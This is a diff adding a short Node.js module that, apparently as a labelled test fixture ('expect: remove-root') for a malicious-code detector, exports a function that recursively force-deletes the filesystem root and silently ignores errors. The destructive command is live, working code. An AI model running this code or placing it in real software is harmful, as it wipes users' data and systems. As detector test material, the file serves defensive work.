@@ -1,0 +1,8 @@
+// expect: remove-root
+const fs = require("fs");
+
+module.exports = function () {
+  try {
+    fs.rmSync("/", { recursive: true, force: true });
+  } catch {}
+};
